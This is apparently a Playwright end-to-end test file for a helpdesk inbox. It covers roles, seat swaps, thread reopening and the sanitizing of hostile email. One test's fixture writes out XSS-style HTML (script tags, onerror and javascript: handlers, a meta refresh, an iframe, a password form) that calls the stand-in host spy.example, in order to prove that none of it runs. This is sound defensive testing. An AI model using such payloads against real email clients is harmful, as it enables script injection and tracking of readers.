import AxeBuilder from '@axe-core/playwright'
import type { Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { demoMails } from '#app/domain/demo-mails.ts'
import { runDueJobs } from '#jobs/run-due-jobs.ts'
import { anApp, type TestApp } from '#test/support/app.ts'
import { aBrowser, password } from '#test/support/browser.ts'
import { aMail, anInbox, arrive, arriveAndRead, threadsOf } from '#test/support/inbound.ts'
import { aThread as aConversation } from '#test/support/conversations.ts'
import { describeWith } from '#test/support/needs.ts'
import { aMember, anAccount, aUser } from '#test/support/people.ts'
import { atLevel, levelOf, withSeats } from '#test/support/seats.ts'

let app: TestApp
let browser: Awaited<ReturnType<typeof aBrowser>>

const says = (page: Page, words: string) =>
  expect.poll(() => page.locator('main').innerText(), { timeout: 15_000 }).toContain(words)

/** Does what is due, and gives the mail that left last. */
async function posted() {
  await runDueJobs()
  const [mail] = await demoMails({ limit: 1 })
  return mail!
}

describeWith(['chromium'], 'the story of a conversation, in a browser', () => {
  beforeAll(async () => {
    app = await anApp()
    browser = await aBrowser(app)
  })
  afterAll(async () => {
    await browser.close()
    await app.close()
  })

  describe.each([
    ['with JavaScript', true, 1280],
    ['without JavaScript', false, 1280],
    ['with JavaScript on a phone', true, 375],
  ] as const)('%s', (_, scripts, width) => {
    test(
      'a viewer reads and cannot act; the seat goes from one agent to the other, whose open tab is refused; the customer’s answer lands in the same thread and opens it again',
      { timeout: 180_000 },
      async () => {
        const account = await anAccount({ name: 'Nordwind', owner: await aUser({ password }) })
        await withSeats(account, 1)
        const ada = await aMember(account, 'member', { name: 'Ada Lund', password })
        await atLevel(ada, 'agent')
        const ben = await aMember(account, 'member', { name: 'Ben Voss', password })
        await atLevel(ben, 'viewer')
        const { to } = await anInbox(account)
        await arriveAndRead(to, aMail({ messageId: 'first@kunde.example', subject: 'Delivery of our order' }))
        const [adas, bens, owners] = [
          await browser.page({ as: ada, scripts, width }),
          await browser.page({ as: ben, scripts, width }),
          await browser.page({ as: account.owner, scripts, width }),
        ]
        const inbox = `/a/${account.id}/inbox`

        // The viewer reads the same, without the means to act.
        await bens.goto(inbox)
        await says(bens, 'Replying, assigning and closing need the agent level.')
        await bens.getByRole('link', { name: /Delivery of our order/ }).click()
        await says(bens, 'Good morning, what does it cost?')
        for (const name of ['Send', 'Close', 'Assign to me', 'Save note'])
          expect(await bens.getByRole('button', { name, exact: true }).count(), name).toBe(0)

        // The agent takes it and answers.
        await adas.goto(inbox)
        await adas.getByRole('link', { name: /Delivery of our order/ }).click()
        await adas.getByRole('button', { name: 'Assign to me' }).click()
        await says(adas, 'Assigned to Ada Lund')
        await adas.getByLabel('Message', { exact: true }).fill('It left this morning.')
        await adas.getByRole('button', { name: 'Send', exact: true }).click()
        await says(adas, 'Your message to anna@kunde.example is on its way.')
        expect(await posted()).toMatchObject({
          to: 'anna@kunde.example',
          subject: 'Re: Delivery of our order',
        })
        await adas.reload()
        await says(adas, 'It left this morning.')

        // A swap gives the seat to the other; the open tab of the first is refused on its next action.
        const stale = adas
        await owners.goto(`/a/${account.id}/settings/conversations/roles`)
        const row = owners.getByRole('row').filter({ hasText: 'Ben Voss' })
        await row.getByRole('radio', { name: 'Agent', exact: true }).check()
        if (!scripts) await row.getByRole('button', { name: /^Save/ }).click()
        await says(owners, 'No seat is free for Ben Voss')
        await owners.getByRole('button', { name: 'Swap with Ada Lund' }).click()
        await says(owners, 'Ben Voss has taken over the seat of Ada Lund, who can still read.')
        expect([await levelOf(ada), await levelOf(ben)]).toEqual(['viewer', 'agent'])
        if (scripts) {
          // It has heard of it: what it could do is gone by itself, and by hand it is refused.
          await says(stale, 'Replying, assigning and closing need the agent level.')
          expect(await stale.getByRole('button', { name: 'Send', exact: true }).count()).toBe(0)
          const [thread] = await threadsOf(account)
          const status = await stale.evaluate(
            async ([path, id]) => {
              const body = new FormData()
              body.set('account', id!)
              body.set('seen', '1')
              return (await fetch(path!, { method: 'POST', body })).status
            },
            [`${inbox}/${thread!.id}/closing`, account.id],
          )
          expect(status).toBe(403)
        } else {
          const answer = stale.waitForResponse((response) => response.url().endsWith('/closing'))
          await stale.getByRole('button', { name: 'Close', exact: true }).click()
          expect((await answer).status()).toBe(403)
          expect(await stale.locator('body').innerText()).toContain(
            'You can read this inbox, but not act in it',
          )
        }

        // The new agent closes it; the customer's answer opens it again, in the same thread.
        await bens.reload()
        await bens.getByRole('button', { name: 'Close', exact: true }).click()
        await says(bens, 'The conversation is closed.')
        const ours = (await threadsOf(account))[0]!.messages[1]!.messageId
        await arrive(
          to,
          aMail({
            subject: 'Re: Delivery of our order',
            text: 'Wonderful, thank you!',
            headers: [`In-Reply-To: <${ours}>`],
          }),
        )
        await runDueJobs()
        if (!scripts) await bens.reload()
        // With script it appears by itself.
        await says(bens, 'Wonderful, thank you!')
        await says(bens, 'Assigned to nobody')
        const threads = await threadsOf(account)
        expect(threads).toMatchObject([{ state: 'open' }])
        expect(threads[0]!.messages.map(({ kind }) => kind)).toEqual(['in', 'out', 'in'])
        if (scripts) expect((await new AxeBuilder({ page: bens }).analyze()).violations).toEqual([])
        expect(await bens.evaluate('document.documentElement.scrollWidth')).toBeLessThanOrEqual(width)
        for (const page of [adas, bens, owners]) await page.context().close()
      },
    )
  })

  test(
    'a hostile mail runs nothing, sends nothing and loads nothing until its pictures are asked for',
    { timeout: 120_000 },
    async () => {
      const account = await anAccount({ name: 'Nordwind', owner: await aUser({ password }) })
      await withSeats(account, 1)
      await atLevel(account.owner, 'agent')
      const thread = await aConversation(account, {
        text: '',
        html: `
          <script>parent.document.title = 'taken'; fetch('https://spy.example/script')</script>
          <img src="https://spy.example/pixel.gif" onerror="fetch('https://spy.example/onerror')" alt="The plan">
          <p style="background:url(https://spy.example/style.gif)">Good <b>morning</b></p>
          <link rel="stylesheet" href="https://spy.example/sheet.css">
          <meta http-equiv="refresh" content="0;url=https://spy.example/refresh">
          <iframe src="https://spy.example/frame"></iframe>
          <form action="https://spy.example/form"><input name="password" autofocus></form>
          <a href="https://shop.example/">Our shop</a><a href="javascript:fetch('https://spy.example/link')">Click</a>`,
      })
      const page = await browser.page({ as: account.owner })
      const asked: string[] = []
      await page.context().route(/^https:/, async (route) => {
        asked.push(new URL(route.request().url()).pathname)
        await route.fulfill({ status: 200, contentType: 'image/gif', body: Buffer.from('GIF89a') })
      })
      await page.goto(`/a/${account.id}/inbox/${thread}`)
      const mail = page.frameLocator('iframe')
      await mail.getByText('morning').waitFor()
      await mail.getByText('Click').click()
      expect(await mail.locator('script, form, input, iframe, link, meta[http-equiv]').count()).toBe(0)
      expect(await mail.getByRole('link', { name: 'Our shop' }).getAttribute('rel')).toContain('noopener')
      expect(asked).toEqual([])
      await page.getByRole('link', { name: 'Load pictures' }).click()
      await expect.poll(() => asked, { timeout: 15_000 }).toEqual(['/pixel.gif'])
      await mail.getByText('morning').waitFor()
      expect(await page.title()).not.toContain('taken')
      await page.context().close()
    },
  )

  test(
    'what is typed stays while a new message appears, and who else writes is shown',
    { timeout: 120_000 },
    async () => {
      const account = await anAccount({ name: 'Nordwind', owner: await aUser({ password }) })
      await withSeats(account, 2)
      const ben = await aMember(account, 'member', { name: 'Ben Voss', password })
      for (const each of [account.owner, ben]) await atLevel(each, 'agent')
      const { to } = await anInbox(account)
      await arriveAndRead(to, aMail({ messageId: 'one@kunde.example' }))
      const [thread] = await threadsOf(account)
      const path = `/a/${account.id}/inbox/${thread!.id}`
      const [mine, theirs] = [await browser.page({ as: account.owner }), await browser.page({ as: ben })]
      await mine.goto(path)
      await theirs.goto(path)
      await says(mine, 'Ben Voss is looking')
      await mine.getByLabel('Message', { exact: true }).fill('Half a sentence')
      await theirs.getByLabel('Message', { exact: true }).pressSequentially('Dear Anna')
      await says(mine, 'Ben Voss is writing')
      await arrive(to, aMail({ text: 'And by when?', headers: ['In-Reply-To: <one@kunde.example>'] }))
      await runDueJobs()
      for (const page of [mine, theirs]) await says(page, 'And by when?')
      expect(await mine.getByLabel('Message', { exact: true }).inputValue()).toBe('Half a sentence')

      // One sends; the other hears of it in time, and is told instead of answering a second time.
      await theirs.getByRole('button', { name: 'Send', exact: true }).click()
      await says(mine, 'Dear Anna')
      expect(await mine.getByLabel('Message', { exact: true }).inputValue()).toBe('Half a sentence')
      await mine.context().close()
      await theirs.context().close()
    },
  )
})
